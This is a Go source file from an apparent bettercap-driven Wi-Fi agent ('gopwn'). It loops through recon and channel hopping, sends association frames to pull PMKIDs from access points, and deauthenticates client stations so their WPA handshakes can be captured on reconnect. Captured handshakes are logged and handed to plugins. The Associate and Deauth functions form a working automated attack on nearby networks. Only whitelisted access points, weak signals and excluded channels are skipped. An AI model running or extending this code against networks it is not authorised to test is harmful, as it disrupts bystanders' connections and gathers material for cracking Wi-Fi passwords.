// Package agent drives a bettercap instance through recon, channel
// hopping, association and deauthentication, and keeps the per-epoch
// statistics the loop reports on.
package agent

import (
	"context"
	"encoding/json"
	"fmt"
	"os/exec"
	"strings"
	"sync"
	"time"

	"golang.org/x/time/rate"

	"gopwn/config"
	"gopwn/internal/bettercap"
	pwerr "gopwn/internal/errors"
	"gopwn/internal/metrics"
	"gopwn/internal/retry"
	"gopwn/internal/wifi"
	"gopwn/util"
)

// API is the part of the bettercap client the agent uses.
type API interface {
	BaseURL() string
	Run(ctx context.Context, cmd string) error
	Session(ctx context.Context) (*bettercap.Session, error)
	WiFi(ctx context.Context) (*bettercap.WiFi, error)
	Ready(ctx context.Context, b *retry.Backoff) error
	PollEvents(ctx context.Context, handler func(bettercap.Event))
}

// View receives state updates for the display.
type View interface {
	Set(key string, value interface{})
}

// Dispatcher forwards agent events to plugins.
type Dispatcher interface {
	On(ctx context.Context, event string, args ...interface{})
}

// View keys set by the agent.
const (
	KeyStatus  = "status"
	KeyFace    = "face"
	KeyChannel = "channel"
	KeyAPs     = "aps"
	KeyEpoch   = "epoch"
	KeyShakes  = "shakes"
	KeyMood    = "mood"
)

// Options configures an Agent.  Config and API are required.
type Options struct {
	Config  *config.Config
	API     API
	View    View
	Plugins Dispatcher
	Logger  *util.Logger
	Metrics *metrics.Collector

	// Sleep waits for d or until ctx is done.  Tests replace it.
	Sleep func(ctx context.Context, d time.Duration) error
	// Shell runs the monitor start command.  Tests replace it.
	Shell func(ctx context.Context, command string) error
	// Backoff is used while waiting for the api and the interface.
	Backoff func() *retry.Backoff
}

// Agent is the bettercap-backed implementation of the loop's agent.
type Agent struct {
	cfg     *config.Config
	api     API
	view    View
	plugins Dispatcher
	log     *util.Logger
	metrics *metrics.Collector
	sleep   func(ctx context.Context, d time.Duration) error
	shell   func(ctx context.Context, command string) error
	backoff func() *retry.Backoff

	epoch    *Epoch
	assocLim *rate.Limiter
	deauthLm *rate.Limiter

	mu         sync.Mutex
	channel    int
	aps        []wifi.AccessPoint
	history    map[string]int
	handshakes map[string]struct{}
}

// New returns an Agent.  Nothing talks to bettercap until the startup
// methods are called.
func New(opts Options) *Agent {
	a := &Agent{
		cfg:        opts.Config,
		api:        opts.API,
		view:       opts.View,
		plugins:    opts.Plugins,
		log:        opts.Logger,
		metrics:    opts.Metrics,
		sleep:      opts.Sleep,
		shell:      opts.Shell,
		backoff:    opts.Backoff,
		history:    make(map[string]int),
		handshakes: make(map[string]struct{}),
	}
	if a.view == nil {
		a.view = nopView{}
	}
	if a.plugins == nil {
		a.plugins = nopDispatcher{}
	}
	if a.log == nil {
		a.log = util.Nop()
	}
	if a.sleep == nil {
		a.sleep = sleepCtx
	}
	if a.shell == nil {
		a.shell = runShell
	}
	if a.backoff == nil {
		a.backoff = func() *retry.Backoff {
			b := retry.DefaultBackoff()
			b.MaxAttempts = config.DefaultReadyAttempts
			return b
		}
	}

	p := a.cfg.Personality
	a.assocLim = limiter(p.ThrottleAssoc)
	a.deauthLm = limiter(p.ThrottleDeauth)
	a.epoch = NewEpoch(Thresholds{Bored: p.BoredEpochs, Sad: p.SadEpochs, Excited: p.ExcitedEpochs})
	return a
}

// Epoch exposes the tracker, read-only use only.
func (a *Agent) Epoch() *Epoch { return a.epoch }

// ── startup ──────────────────────────────────────────────────────────

// StartAI sets up the decision policy.  Only the static personality
// from the configuration is available.
func (a *Agent) StartAI(ctx context.Context) error {
	if a.cfg.AI.Enabled {
		a.log.Warn("ai.enabled is set but no learning policy is available, using the static personality")
	}
	p := a.cfg.Personality
	a.log.Debug("personality: associate=%v deauth=%v channels=%v recon_time=%v max_interactions=%d",
		p.Associate, p.Deauth, p.Channels, p.ReconTime, p.MaxInteractions)
	return nil
}

// SetupEvents silences noisy bettercap event tags.  A tag bettercap
// refuses is skipped; an unreachable api is an error.
func (a *Agent) SetupEvents(ctx context.Context) error {
	for _, tag := range a.cfg.Bettercap.Silence {
		err := a.api.Run(ctx, "events.ignore "+tag)
		if err == nil {
			continue
		}
		var ae *pwerr.APIError
		if pwerr.As(err, &ae) && ae.Status != 0 {
			a.log.Debug("events.ignore %s: %s", tag, ae.Msg)
			continue
		}
		return err
	}
	return nil
}

func (a *Agent) SetStarting() {
	a.view.Set(KeyStatus, "starting ...")
	a.view.Set(KeyFace, "(◕‿‿◕)")
}

func (a *Agent) SetReady() {
	a.view.Set(KeyStatus, "ready")
	a.view.Set(KeyFace, "(•‿‿•)")
	a.log.Info("%s is ready", a.cfg.Main.Name)
}

// StartMonitorMode waits for the api, brings the monitor interface up
// if bettercap cannot see it, and starts wifi recon on it.
func (a *Agent) StartMonitorMode(ctx context.Context) error {
	iface := a.cfg.Main.Iface
	a.log.Info("connecting to %s ...", a.api.BaseURL())

	if err := a.api.Ready(ctx, a.backoff()); err != nil {
		return err
	}

	s, err := a.api.Session(ctx)
	if err != nil {
		return err
	}

	if !s.HasInterface(iface) {
		if cmd := a.cfg.Main.MonStartCmd; cmd != "" {
			a.log.Info("starting monitor interface %s ...", iface)
			if err := a.shell(ctx, cmd); err != nil {
				return fmt.Errorf("mon_start_cmd: %w", err)
			}
		}
		b := a.backoff()
		b.OnRetry = func(int, error, time.Duration) { a.log.Info("waiting for monitor interface %s ...", iface) }
		err := b.Do(ctx, func(_ int) error {
			next, serr := a.api.Session(ctx)
			if serr != nil {
				return serr
			}
			s = next
			if !s.HasInterface(iface) {
				return fmt.Errorf("interface %s not found", iface)
			}
			return nil
		})
		if err != nil {
			return err
		}
	}

	a.log.Info("supported channels: %d", wifi.NumChannels)
	if s.Running("wifi") {
		return nil
	}
	if err := a.api.Run(ctx, "set wifi.interface "+iface); err != nil {
		return err
	}
	return a.api.Run(ctx, "wifi.recon on")
}

// StartEventPolling consumes the bettercap event stream on its own
// goroutine until ctx is done.
func (a *Agent) StartEventPolling(ctx context.Context) error {
	go a.api.PollEvents(ctx, func(ev bettercap.Event) { a.onEvent(ctx, ev) })
	return nil
}

func (a *Agent) onEvent(ctx context.Context, ev bettercap.Event) {
	if ev.Tag != bettercap.HandshakeTag {
		return
	}
	var hs bettercap.Handshake
	if err := json.Unmarshal(ev.Data, &hs); err != nil {
		a.log.Debug("malformed handshake event: %v", err)
		return
	}

	key := strings.ToLower(hs.Station + " -> " + hs.AP)
	a.mu.Lock()
	_, seen := a.handshakes[key]
	a.handshakes[key] = struct{}{}
	total := len(a.handshakes)
	ch := a.channel
	apName := hs.AP
	for i := range a.aps {
		if strings.EqualFold(a.aps[i].MAC, hs.AP) {
			apName = a.aps[i].Name()
			ch = a.aps[i].Channel
			break
		}
	}
	a.mu.Unlock()
	if seen {
		return
	}

	a.epoch.TrackHandshake()
	a.metrics.HandshakeCaptured()
	a.log.Warn("!!! captured new handshake on channel %d: %s -> %s !!!", ch, hs.Station, apName)
	a.view.Set(KeyShakes, total)
	a.plugins.On(ctx, "handshake", hs.File, hs.AP, hs.Station)
}

// ── epoch ────────────────────────────────────────────────────────────

// NextEpoch closes the current epoch and logs its statistics.
func (a *Agent) NextEpoch(ctx context.Context) error {
	st := a.epoch.Next()
	a.metrics.EpochCompleted()

	a.log.Info("%s", st)
	a.view.Set(KeyEpoch, st.Epoch+1)

	if st.Mood != MoodNormal {
		a.log.Info("unit is %s", st.Mood)
		a.view.Set(KeyMood, string(st.Mood))
		a.plugins.On(ctx, string(st.Mood))
	}
	a.plugins.On(ctx, "epoch", st.Epoch, st)
	return nil
}

// ── recon ────────────────────────────────────────────────────────────

// Recon restricts bettercap to the configured channels (all when none)
// and dwells while it scans.
func (a *Agent) Recon(ctx context.Context) error {
	p := a.cfg.Personality
	dwell := p.ReconTime
	if a.epoch.InactiveFor() > 0 && p.MinReconTime > 0 {
		dwell = p.MinReconTime
	}

	cmd := "wifi.recon.channel clear"
	if len(p.Channels) > 0 {
		chs := make([]string, len(p.Channels))
		for i, ch := range p.Channels {
			chs[i] = fmt.Sprint(ch)
		}
		cmd = "wifi.recon.channel " + strings.Join(chs, ",")
	}
	if err := a.api.Run(ctx, cmd); err != nil {
		return err
	}

	a.mu.Lock()
	a.channel = 0
	a.mu.Unlock()
	a.view.Set(KeyChannel, "*")
	a.view.Set(KeyStatus, "scanning ...")

	a.log.Debug("running recon for %v", dwell)
	return a.wait(ctx, dwell, true)
}

// AccessPointsByChannel fetches what recon found and groups it by
// channel, busiest first.  Whitelisted and too weak access points are
// dropped, as are those outside the configured channels.
func (a *Agent) AccessPointsByChannel(ctx context.Context) ([]wifi.ChannelGroup, error) {
	w, err := a.api.WiFi(ctx)
	if err != nil {
		return nil, err
	}

	aps := a.filter(w.AccessPoints)
	groups := wifi.GroupByChannel(aps)

	a.mu.Lock()
	a.aps = aps
	a.mu.Unlock()

	a.epoch.Observe(aps)
	a.view.Set(KeyAPs, len(aps))
	a.plugins.On(ctx, "wifi_update", aps)
	return groups, nil
}

func (a *Agent) filter(in []wifi.AccessPoint) []wifi.AccessPoint {
	p := a.cfg.Personality
	allowed := make(map[int]bool, len(p.Channels))
	for _, ch := range p.Channels {
		allowed[ch] = true
	}
	white := make(map[string]bool, len(a.cfg.Main.Whitelist))
	for _, w := range a.cfg.Main.Whitelist {
		white[strings.ToLower(w)] = true
	}

	out := make([]wifi.AccessPoint, 0, len(in))
	for _, ap := range in {
		if white[strings.ToLower(ap.MAC)] || white[strings.ToLower(ap.Hostname)] {
			continue
		}
		if ap.RSSI < p.MinRSSI {
			continue
		}
		if len(allowed) > 0 && !allowed[ap.Channel] {
			continue
		}
		out = append(out, ap)
	}
	return out
}

// CheckChannels records how busy the spectrum is for the epoch.
func (a *Agent) CheckChannels(ctx context.Context, groups []wifi.ChannelGroup) error {
	a.epoch.ObserveChannels(len(groups))
	a.log.Debug("%d busy channels: %v", len(groups), wifi.Channels(groups))
	return nil
}

// SetChannel hops to ch.  After a deauth it dwells hop_recon_time so
// stations can reconnect, after an association only min_recon_time.
func (a *Agent) SetChannel(ctx context.Context, ch int) error {
	a.mu.Lock()
	current := a.channel
	a.mu.Unlock()
	if ch == current {
		return nil
	}

	var dwell time.Duration
	switch {
	case a.epoch.DidDeauth():
		dwell = a.cfg.Personality.HopReconTime
	case a.epoch.DidAssociate():
		dwell = a.cfg.Personality.MinReconTime
	}
	if current != 0 && dwell > 0 {
		a.log.Debug("waiting %v on channel %d ...", dwell, current)
		if err := a.wait(ctx, dwell, false); err != nil {
			return err
		}
	}

	if err := a.api.Run(ctx, fmt.Sprintf("wifi.recon.channel %d", ch)); err != nil {
		return err
	}

	a.mu.Lock()
	a.channel = ch
	a.mu.Unlock()
	a.epoch.TrackHop()
	a.metrics.ChannelHop()
	a.view.Set(KeyChannel, ch)
	a.plugins.On(ctx, "channel_hop", ch)
	return nil
}

// IsStale reports whether too many interactions were missed this epoch.
func (a *Agent) IsStale() bool {
	return a.epoch.Missed() > a.cfg.Personality.MaxMissesForRecon
}

func (a *Agent) AnyActivity() bool { return a.epoch.AnyActivity() }

// ── interaction ──────────────────────────────────────────────────────

// Associate sends an association frame to ap, to make it hand out a
// PMKID.  Targets bettercap no longer knows count as misses.
func (a *Agent) Associate(ctx context.Context, ap *wifi.AccessPoint) error {
	if a.IsStale() {
		a.log.Debug("recon is stale, skipping association to %s", ap.MAC)
		return nil
	}
	if !a.cfg.Personality.Associate || !a.shouldInteract(ap.MAC) {
		return nil
	}
	if err := a.assocLim.Wait(ctx); err != nil {
		return err
	}

	a.log.Info("sending association frame to %s (%s) on channel %d [%d clients], %d dBm ...",
		ap.Name(), ap.MAC, ap.Channel, len(ap.Clients), ap.RSSI)
	a.metrics.AssociationAttempted()

	if err := a.api.Run(ctx, "wifi.assoc "+ap.MAC); err != nil {
		return a.onMiss(ap.MAC, err)
	}
	a.epoch.TrackAssoc()
	a.plugins.On(ctx, "association", *ap)
	return nil
}

// Deauth disconnects sta from ap so its handshake can be captured on
// reconnect.
func (a *Agent) Deauth(ctx context.Context, ap *wifi.AccessPoint, sta *wifi.Station) error {
	if a.IsStale() {
		a.log.Debug("recon is stale, skipping deauth of %s", sta.MAC)
		return nil
	}
	if !a.cfg.Personality.Deauth || !a.shouldInteract(sta.MAC) {
		return nil
	}
	if err := a.deauthLm.Wait(ctx); err != nil {
		return err
	}

	a.log.Info("deauthing %s (%s) from %s (%s) on channel %d, %d dBm ...",
		sta.MAC, sta.Vendor, ap.Name(), ap.MAC, ap.Channel, sta.RSSI)
	a.metrics.DeauthAttempted()

	if err := a.api.Run(ctx, "wifi.deauth "+sta.MAC); err != nil {
		return a.onMiss(sta.MAC, err)
	}
	a.epoch.TrackDeauth()
	a.plugins.On(ctx, "deauthentication", *ap, *sta)
	return nil
}

// shouldInteract counts an interaction with mac and reports whether it
// is still under max_interactions.
func (a *Agent) shouldInteract(mac string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	key := strings.ToLower(mac)
	if a.history[key] >= a.cfg.Personality.MaxInteractions {
		return false
	}
	a.history[key]++
	return true
}

func (a *Agent) onMiss(mac string, err error) error {
	if pwerr.IsNotFound(err) {
		a.log.Debug("%s was lost, tracking a miss", mac)
		a.epoch.TrackMiss()
		return nil
	}
	return err
}

// ── helpers ──────────────────────────────────────────────────────────

func (a *Agent) wait(ctx context.Context, d time.Duration, sleeping bool) error {
	if d <= 0 {
		return nil
	}
	if sleeping {
		a.epoch.TrackSleep(d)
	}
	return a.sleep(ctx, d)
}

func limiter(every time.Duration) *rate.Limiter {
	if every <= 0 {
		return rate.NewLimiter(rate.Inf, 1)
	}
	return rate.NewLimiter(rate.Every(every), 1)
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

func runShell(ctx context.Context, command string) error {
	out, err := exec.CommandContext(ctx, "/bin/sh", "-c", command).CombinedOutput()
	if err != nil {
		return fmt.Errorf("%q: %w: %s", command, err, strings.TrimSpace(string(out)))
	}
	return nil
}

type nopView struct{}

func (nopView) Set(string, interface{}) {}

type nopDispatcher struct{}

func (nopDispatcher) On(context.Context, string, ...interface{}) {}
